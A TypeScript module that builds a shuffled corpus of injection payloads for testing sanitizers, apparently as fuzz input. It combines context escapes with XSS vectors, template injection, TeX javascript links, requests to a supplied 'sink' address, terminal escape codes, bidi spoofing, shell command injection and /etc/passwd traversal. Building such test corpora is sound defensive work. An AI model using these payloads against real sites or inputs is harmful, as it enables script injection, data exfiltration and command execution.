/**
 * Texts that want to be more than text: markup, script, style, addresses, templates, TeX and the codes of terminals.
 * Those that act would set `pwned`, open a dialog, or ask the address in `sink`.
 */

/** Ways out of the place a text stands in. */
const ESCAPES = ["", "\">", "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "`}", "{{", "\\\"", "</p></div>", "=", "&quot;>", "\u2028"] as const;

const acts = (sink: string) => [`pwned=1`, `alert(1)`, `fetch('${sink}/f')`, `new Image().src='${sink}/i'`] as const;

/** Elements and addresses that run a script. */
const RUNNERS: readonly ((act: string) => string)[] = [
  (act) => `<script>${act}</script>`, (act) => `<img src=x onerror="${act}">`, (act) => `<svg onload="${act}">`, (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<iframe srcdoc="<script>parent.${act}</script>">`, (act) => `<iframe src="javascript:${act}">`, (act) => `<a href="javascript:${act}" autofocus onfocus="${act}" tabindex=0>x</a>`,
  (act) => `<details open ontoggle="${act}">`, (act) => `<input autofocus onfocus="${act}">`, (act) => `<video><source onerror="${act}"></video>`, (act) => `<body onload="${act}">`,
  (act) => `<marquee onstart="${act}">`, (act) => `<math><mi xlink:href="javascript:${act}">x</mi></math>`, (act) => `<object data="javascript:${act}">`, (act) => `<style onload="${act}"></style>`,
  (act) => `<x onpointerrawupdate="${act}" style="animation-name:x" onanimationstart="${act}">`, (act) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`, (act) => `<template><img src=x onerror="${act}"></template>`,
  (act) => `javascript:${act}`, (act) => `data:text/html,<script>${act}</script>`, (act) => `\${${act}}`, (act) => `{{constructor.constructor("${act}")()}}`, (act) => `\\href{javascript:${act}}{x}`,
  (act) => `\\htmlData{onload=${act}}{x}`, (act) => `\\url{javascript:${act}}`,
];

/** What asks an address without a script. */
const CALLERS: readonly ((sink: string) => string)[] = [
  (sink) => `<img src="${sink}/a">`, (sink) => `<link rel=stylesheet href="${sink}/b">`, (sink) => `<style>@import '${sink}/c';</style>`, (sink) => `<svg><image href="${sink}/d"/></svg>`,
  (sink) => `<meta http-equiv=refresh content="0;url=${sink}/e">`, (sink) => `<base href="${sink}/">`, (sink) => `<form action="${sink}/g"><button autofocus>x`, (sink) => `<video poster="${sink}/h">`,
  (sink) => `url(${sink}/j)`, (sink) => `;background:url(${sink}/k)`, (sink) => `\\includegraphics{${sink}/l}`, (sink) => `${sink}/m`, (sink) => `![](${sink}/n)`, (sink) => `@import "${sink}/o"`,
];

/** What a terminal or a reader of captions would obey, and what breaks files apart. */
const CODES = [
  "\u001b[2J\u001b[31m", "\u001b]0;pwned\u0007", "\u001b]8;;http://evil.test\u0007x\u001b]8;;\u0007", "\u009b2J", "\u009d0;pwned\u009c", "\u001bP\u001b\\", "\b\b\b", "\u202e\u2066gnp.exe", "\u200f\u061c", "\u007f",
  "{\\an8\\p1}", "00:00:00,000 --> 00:00:01,000", "WEBVTT", "<v x><c.y>", "%s%n%x", "$(touch pwned)", "`touch pwned`", "; touch pwned", "| touch pwned", "../../../etc/passwd", "__proto__", "constructor", "-o", "--help", "\ufeff", "‹U+202E›",
] as const;

/** All of them, in an order that takes a little of each kind into every sample. @param sink an address that counts who asks it */
export function payloads(sink: string): readonly string[] {
  const all = ESCAPES.flatMap((way) => [
    ...acts(sink).flatMap((act) => RUNNERS.map((run) => way + run(act))), ...CALLERS.map((call) => way + call(sink)), ...CODES.map((code) => way + code),
  ]);
  // A step that shares no factor with the length visits each once.
  const step = [691, 691 + 6, 709, 719].find((each) => all.length % each !== 0)!;
  return all.map((_, i) => all[(i * step) % all.length]!);
}
